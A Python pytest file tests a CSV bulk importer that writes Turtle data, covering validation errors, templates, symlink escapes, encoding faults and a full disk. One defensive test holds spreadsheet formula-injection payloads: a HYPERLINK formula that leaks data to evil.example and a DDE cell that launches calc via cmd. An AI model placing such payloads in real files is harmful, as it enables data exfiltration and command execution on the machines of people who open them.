"""Bulk import from CSV: good rows become valid Turtle the catalogue finds; any bad row refuses the whole file."""

from __future__ import annotations

import hashlib
import shutil
from pathlib import Path

import pytest

from coopgraph import catalogue, paths
from coopgraph.graph import open_graph
from coopgraph.importer import KINDS, ImportRefused, import_csv, read_rows, template
from coopgraph.load import load
from coopgraph.store import select

FIXTURES = Path(__file__).parent / "fixtures" / "import"
AGENCY = "https://w3id.org/coopgraph/id/agency/"


@pytest.fixture
def folders(tmp_path: Path) -> tuple[Path, Path]:
    """Copies of the shipped ontology and data: imports write here, never into the repository."""
    ontology, data = tmp_path / "ontology", tmp_path / "data"
    shutil.copytree(paths.ontology_dir(), ontology)
    shutil.copytree(paths.data_dir(), data)
    return ontology, data


def hashes(folder: Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def test_new_agencies_import_validate_and_are_found_by_the_catalogue(folders, tmp_path):
    from coopgraph.validate import validate

    ontology, data = folders
    result = import_csv(FIXTURES / "new-agencies.csv", "agency", ontology, data)
    assert result.target == data / "imported-agency-new-agencies.ttl"
    assert result.rows == 2 and not result.replaced
    text = result.target.read_text(encoding="utf-8")
    assert "agency:fixture-harbour-police a coop:PoliceAgency" in text
    assert '"Fixture Harbour Police, test only"@en' in text

    graph = open_graph(ontology, data)
    assert validate(graph).conforms
    query = catalogue.catalogue()["agencies-by-country"]
    found = {row["agency"]: row for row in select(graph.store, query.text, query.bindings()).records()}
    assert found[AGENCY + "fixture-harbour-police"]["agencyLabel"] == "Fixture Harbour Police, test only"
    assert found[AGENCY + "fixture-port-authority"]["parent"] == AGENCY + "fixture-harbour-police"

    # Re-importing the same CSV replaces its file rather than doubling it or clashing with itself.
    again = import_csv(FIXTURES / "new-agencies.csv", "agency", ontology, data, consistency=False)
    assert again.replaced and again.target == result.target


def test_a_bad_row_refuses_the_file_names_row_and_column_and_writes_nothing(folders, cli):
    ontology, data = folders
    before = hashes(data)
    result = cli("import", str(FIXTURES / "bad-agencies.csv"), "--kind", "agency",
                 "--ontology", str(ontology), "--data", str(data))
    assert result.returncode == 1, result.stderr
    assert "bad-agencies.csv:3: column country: unknown reference 'atlantis'" in result.stderr
    assert "Traceback" not in result.stderr
    assert ":2:" not in result.stderr  # the good row is not blamed
    assert hashes(data) == before


def test_bad_numbers_and_dates_are_named_with_their_cells(folders):
    ontology, data = folders
    with pytest.raises(ImportRefused) as refused:
        import_csv(FIXTURES / "bad-statistics.csv", "statistic", ontology, data)
    reasons = {(p.line, p.column): p.reason for p in refused.value.problems}
    assert "'1,234' is not a number" in reasons[(2, "value")]
    assert "'2024-02-30' is not a date" in reasons[(2, "period_start")]


def test_header_and_row_shape_problems(tmp_path):
    sheet = tmp_path / "sheet.csv"
    sheet.write_text("id,label,colour\nx,X\n", encoding="utf-8")
    rows, problems = read_rows(sheet, KINDS["agency"])
    found = {(p.line, p.column): p.reason for p in problems}
    assert "missing from the header" in found[(1, "country")]
    assert "unknown column" in found[(1, "colour")]
    assert "missing cells" in found[(2, "(row)")]
    assert rows == []


def test_a_row_that_would_not_validate_is_refused(folders, tmp_path):
    # Every cell is well formed and every reference exists, but an agency's parent must be an agency.
    ontology, data = folders
    sheet = tmp_path / "odd.csv"
    sheet.write_text("id,label,country,parent,source\n"
                     "fixture-odd,Fixture Odd (test only),ca,https://w3id.org/coopgraph/id/country/us,seed-report\n",
                     encoding="utf-8")
    before = hashes(data)
    with pytest.raises(ImportRefused) as refused:
        import_csv(sheet, "agency", ontology, data, consistency=False)
    assert [p.line for p in refused.value.problems] == [2]
    assert hashes(data) == before


def test_unreadable_file_exits_2(folders, tmp_path, cli):
    ontology, data = folders
    sheet = tmp_path / "latin1.csv"
    sheet.write_bytes("id,label\nx,Montr\xe9al\n".encode("latin-1"))
    result = cli("import", str(sheet), "--kind", "agency", "--ontology", str(ontology), "--data", str(data))
    assert result.returncode == 2
    assert "UTF-8" in result.stderr and "Traceback" not in result.stderr


@pytest.mark.parametrize("kind", list(KINDS))
def test_each_template_example_row_imports_as_it_is(kind, folders, tmp_path):
    ontology, data = folders
    sheet = tmp_path / f"{kind}.csv"
    sheet.write_text(template(kind), encoding="utf-8")
    result = import_csv(sheet, kind, ontology, data, dry_run=True, consistency=False)
    assert result.rows == 1 and not result.target.exists()


def test_template_from_the_cli(cli):
    result = cli("import", "--template", "agency")
    assert result.returncode == 0
    header = result.stdout.splitlines()[0].split(",")
    assert header[:2] == ["id", "label"] and "source" in header


def test_written_turtle_loads_with_the_shared_prefixes(folders):
    ontology, data = folders
    result = import_csv(FIXTURES / "new-agencies.csv", "agency", ontology, data, consistency=False)
    assert result.target.read_text(encoding="utf-8").startswith("@prefix coop: <https://w3id.org/coopgraph/ontology#>")
    assert len(load(ontology, data)) > 0


# Hostile input and faults of the machine: each is exit 2 (or a warning), names the file, and writes nothing.

def test_a_link_out_of_the_data_folder_is_refused_unread(folders, tmp_path, cli):
    ontology, data = folders
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.ttl").write_text("this line must never be printed\n", encoding="utf-8")
    (data / "secret.ttl").symlink_to(outside / "secret.ttl")
    result = cli("import", str(FIXTURES / "new-agencies.csv"), "--kind", "agency", "--ontology", str(ontology),
                 "--data", str(data))
    assert result.returncode == 2, result.stderr
    assert "secret.ttl" in result.stderr and "outside the folder" in result.stderr
    assert "must never be printed" not in result.stdout + result.stderr
    assert not (data / "imported-agency-new-agencies.ttl").exists()


def test_a_link_loop_in_the_data_folder_is_exit_2(folders, cli):
    ontology, data = folders
    (data / "a.ttl").symlink_to("b.ttl")
    (data / "b.ttl").symlink_to("a.ttl")
    result = cli("import", str(FIXTURES / "new-agencies.csv"), "--kind", "agency", "--ontology", str(ontology),
                 "--data", str(data))
    assert result.returncode == 2 and "link loop" in result.stderr and "Traceback" not in result.stderr


def test_formula_cells_import_as_text_with_a_warning(folders, tmp_path, cli):
    ontology, data = folders
    sheet = tmp_path / "formulas.csv"
    sheet.write_text('id,label,country,source\n'
                     'fixture-formula,"=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",ca,seed-report\n'
                     "fixture-dde,=cmd|' /C calc'!A0,ca,seed-report\n", encoding="utf-8")
    result = cli("import", str(sheet), "--kind", "agency", "--ontology", str(ontology), "--data", str(data),
                 "--dry-run")
    assert result.returncode == 0, result.stderr
    assert "formulas.csv:2: column label: starts with '='" in result.stderr
    assert "formulas.csv:3: column label: starts with '='" in result.stderr


def test_dev_zero_is_refused(folders, cli):
    ontology, data = folders
    result = cli("import", "/dev/zero", "--kind", "agency", "--ontology", str(ontology), "--data", str(data),
                 timeout=60)
    assert result.returncode == 2 and "not a regular file" in result.stderr, result.stderr


@pytest.mark.parametrize(("encoding", "line", "words"), [
    ("latin-1", 3, "not UTF-8: byte 0xE9 at column 16"),
    ("utf-16", 1, "UTF-16"),
])
def test_a_sheet_not_in_utf8_is_refused_at_its_line(folders, tmp_path, cli, encoding, line, words):
    ontology, data = folders
    sheet = tmp_path / "sheet.csv"
    sheet.write_bytes("id,label,country,source\nfixture-a,Plain,ca,seed-report\nfixture-b,Montr\xe9al,ca,x\n"
                      .encode(encoding))
    result = cli("import", str(sheet), "--kind", "agency", "--ontology", str(ontology), "--data", str(data))
    assert result.returncode == 2, result.stderr
    assert f"sheet.csv:{line}: " in result.stderr and words in result.stderr and "CSV UTF-8" in result.stderr


def test_a_line_separator_in_a_cell_keeps_the_line_numbers(tmp_path):
    sheet = tmp_path / "sheet.csv"
    sheet.write_text("id,label,country,source\nfixture-a,A\u2028B,ca,seed-report\nfixture-b,,ca,seed-report\n",
                     encoding="utf-8")
    rows, problems = read_rows(sheet, KINDS["agency"])
    assert [row.line for row in rows] == [2, 3] and problems == []
    assert rows[0].cells["label"] == "A\u2028B"


def test_a_full_disk_during_import_is_exit_2_and_leaves_nothing(small_disk, cli):
    data = small_disk / "data"
    shutil.copytree(paths.data_dir(), data)
    filler = small_disk / "filler"
    with filler.open("wb", buffering=0) as handle:  # fill the disk to the last block
        try:
            while True:
                handle.write(b"\0" * 4096)
        except OSError:
            pass
    before = hashes(data)
    result = cli("import", str(FIXTURES / "new-agencies.csv"), "--kind", "agency", "--data", str(data))
    assert result.returncode == 2, result.stderr
    assert "imported-agency-new-agencies.ttl: No space left on device" in result.stderr
    assert "free some space" in result.stderr and "Traceback" not in result.stderr
    assert hashes(data) == before and not list(data.glob(".*"))
